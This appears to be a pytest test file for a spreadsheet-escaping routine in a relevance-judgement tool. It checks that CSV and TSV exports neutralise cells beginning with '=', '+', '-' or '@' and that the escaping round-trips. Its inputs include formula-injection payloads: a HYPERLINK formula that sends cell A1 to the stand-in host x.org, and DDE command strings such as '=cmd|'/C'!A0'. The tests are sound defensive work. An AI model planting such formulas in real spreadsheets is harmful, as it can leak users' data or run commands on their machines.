"""Text that a spreadsheet would take for a formula: apostrophes out, the same text in."""

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any
from uuid import uuid4

import pandas as pd
import pytest
from hypothesis import example, given, strategies as st

from collection import Campaign, Judgement, formats
from collection.core.records import Preference
from collection.formats import spreadsheet
from tests.helpers import ok

FORMULAS = ('=HYPERLINK("http://x.org?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''=1", "'@x")
HARMLESS = ("", "'", "''", "'t Hooft", "a=b", "1-2", "ann@x.org", " =1", "\u2212 5")

texts = st.text(st.sampled_from("'=+-@\t\r\nab \uff1d"), max_size=8) | st.text(max_size=8)


@given(texts)
@example("'")
def test_what_is_escaped_is_restored_and_no_formula(text: str) -> None:
    cell = spreadsheet.escape(text)
    assert spreadsheet.restore(cell) == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
    as_id = spreadsheet.escape(text, "doc_id")
    assert as_id in (text, cell)
    assert spreadsheet.restore(as_id, "doc_id") == text


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x.org/"&A1)', "=cmd|'/C'!A0", "@SUM(A1)", "-[x]S!A1", "+'x'#$S.A1"]
)
def test_ids_that_call_something_become_text(text: str) -> None:
    assert spreadsheet.escape(text, "doc_id") == f"'{text}"


@pytest.mark.parametrize("text", ["-1", "=A1", "+a/b==", "-_x-7Q", "@ann", "--", "d1"])
def test_ids_that_call_nothing_stay_as_they_are(text: str) -> None:
    assert spreadsheet.escape(text, "doc_id") == text
    assert spreadsheet.restore(f"'{text}", "doc_id") == f"'{text}"


@given(texts, texts)
def test_two_texts_never_become_one(one: str, other: str) -> None:
    assert (spreadsheet.escape(one) == spreadsheet.escape(other)) == (one == other)


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert spreadsheet.escape(text) == spreadsheet.restore(text) == text


@pytest.mark.parametrize("value", [-1, -0.5, None, True, float("-inf")])
def test_what_is_no_text_is_written_as_it_is(value: Any) -> None:
    assert spreadsheet.escape(value) is value


printable = st.sampled_from("'=+-@ab \uff1d") | st.characters(codec="utf-8", exclude_categories=("C", "Z"))
names = st.text(printable, max_size=8).map(lambda text: text.strip() or "=a")
ids = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zs", "Zl", "Zp")), min_size=1, max_size=6)


@pytest.mark.slow
@pytest.mark.parametrize("name", ["labels.csv", "labels.tsv", "labels.csv.gz"])
@given(rows=st.lists(st.tuples(names, ids, ids), max_size=6, min_size=1, unique=True))
@example(rows=[(text, "=f(1)", "-d") for text in FORMULAS if text.isprintable()])
def test_labels_are_read_back(tmp_path_factory: pytest.TempPathFactory, name: str, rows: Any) -> None:
    path = tmp_path_factory.getbasetemp() / name
    frame = pd.DataFrame(rows, columns=["annotator", "query_id", "doc_id"]).assign(relevance=-1)
    formats.write_labels(frame, path)
    found = formats.read_labels(path)
    assert list(found.itertuples(index=False, name=None)) == list(frame.itertuples(index=False, name=None))


@pytest.mark.slow
@given(annotators=st.lists(names, min_size=1, max_size=4), places=st.tuples(ids, ids).filter(lambda p: p[0] != p[1]))
def test_preferences_are_read_back(tmp_path_factory: pytest.TempPathFactory, annotators: Any, places: Any) -> None:
    path = tmp_path_factory.getbasetemp() / "preferences.csv"
    blank = dict.fromkeys(Preference._fields)
    rows = [
        blank | {"uuid": str(n), "annotator": name, "query_id": "=q", "kind": "left", "left": left, "right": right}
        for n, name in enumerate(annotators)
        for left, right in [places]
    ]
    formats.write_preferences(pd.DataFrame(rows), path)
    found = formats.read_preferences(path)
    assert found["annotator"].tolist() == annotators
    assert found["query_id"].tolist() == ["=q"] * len(annotators)
    assert set(zip(found["left"], found["right"], strict=True)) == {places}


def cells(text: str, separator: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


@pytest.mark.slow
def test_no_file_for_spreadsheets_has_a_formula(
    make_campaign: Callable[..., Campaign], files: Path, tmp_path: Path
) -> None:
    (files / "documents.tsv").write_text("-d1\ttext\n=f(A2)\ttext\n")
    (files / "odd.run").write_text("1 Q0 -d1 1 2.0 =cmd|x\n1 Q0 =f(A2) 2 1.0 =cmd|x\n")
    campaign = make_campaign("odd")
    campaign.imports.import_files(documents=[files / "documents.tsv"], runs=[files / "odd.run"])
    said = [
        Judgement(str(uuid4()), name, "1", doc, "graded", 1, note=note)
        for name, note in (("=ann", "=1+1"), ("-ben", "'=quoted"))
        for doc in ("-d1", "=f(A2)")
    ]
    assert not campaign.judging.judge_many(said).refused
    campaign.exports.files.write(
        judgements=tmp_path / "log.csv", labels=tmp_path / "labels.csv", qrels=tmp_path / "q.txt"
    )
    header, *rows = cells((tmp_path / "log.csv").read_text(), ",")
    log = pd.DataFrame(rows, columns=header)
    assert log["doc_id"].tolist() == ["-d1", "'=f(A2)"] * 2
    assert log["note"].tolist() == ["'=1+1", "'=1+1", "''=quoted", "''=quoted"]
    assert {row[0] for row in cells((tmp_path / "labels.csv").read_text(), ",")} == {"annotator", "'=ann", "'-ben"}
    campaign.exports.files.write(judgements=tmp_path / "log.jsonl")
    assert '"note": "=1+1"' in (tmp_path / "log.jsonl").read_text()
    other = make_campaign("other")
    other.imports.import_files(documents=[files / "documents.tsv"], labels=tmp_path / "log.csv")
    assert set(other.store.judgements.table()["annotator"]) == {"=ann", "-ben"}
    other.exports.files.write(qrels=tmp_path / "again.txt")
    assert (tmp_path / "again.txt").read_bytes() == (tmp_path / "q.txt").read_bytes()
    assert "=cmd|x" in ok("evaluate", tmp_path / "q.txt", files / "odd.run", "--format", "tsv")
    values = cells(ok("evaluate", tmp_path / "q.txt", files / "odd.run", "-m", "AP", "--format", "csv"), ",")
    assert {row[0] for row in values} == {"run", "'=cmd|x"}
    runs = (files / "odd.run", files / "a.run")
    compared = cells(ok("compare", tmp_path / "q.txt", *runs, "-m", "AP", "--format", "tsv"), "\t")
    assert not [cell for row in compared[1:] for cell in row if cell.startswith("=")]
    assert any("'=cmd|x" in row for row in compared)
